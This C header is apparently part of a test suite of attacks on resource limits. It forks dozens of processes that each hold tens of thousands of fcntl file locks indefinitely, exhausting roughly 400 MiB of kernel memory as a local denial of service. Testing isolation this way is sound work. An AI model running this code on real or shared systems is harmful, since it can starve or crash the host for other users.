#pragma once
#include <fcntl.h>
#include <sys/wait.h>

#include "attack.h"

// The kernel walks all locks of a file to set one: with many files that is short.
enum { PROCESSES = 60, FILES = 240, LOCKS = 36000 };

// Takes LOCKS locks, each about 200 bytes, that don't touch one another.
static int take(int self, int command) {
    int files[FILES];
    for (int i = 0; i < FILES; i++) {
        char path[64];
        snprintf(path, sizeof path, "/tmp/%d-%d", self, i);
        files[i] = open(path, O_RDWR | O_CREAT, 0600);
        if (files[i] < 0) return 1;
    }
    for (int i = 0; i < LOCKS; i++) {
        struct flock lock = {.l_type = F_WRLCK, .l_start = 2L * (LOCKS - i), .l_len = 1};
        if (fcntl(files[i % FILES], command, &lock) != 0) return 1;
    }
    return 0;
}

// Takes as many locks as it can with a command of fcntl(2), in many processes.
static int take_all(int command) {
    int ready[2];
    if (pipe(ready) != 0) return 1;
    for (int i = 0; i < PROCESSES; i++) {
        pid_t child = fork();
        if (child < 0) return 1;
        if (child > 0) continue;
        close(ready[0]);
        char failed = take(i, command);
        if (write(ready[1], &failed, 1) != 1) _exit(1);
        // The locks last as long as the process.
        for (;;) pause();
    }
    close(ready[1]);
    for (int i = 0; i < PROCESSES; i++) {
        char failed = 0;
        if (read(ready[0], &failed, 1) != 1 || failed) return 1;
    }
    fell("400 MiB of locks");
    return end();
}
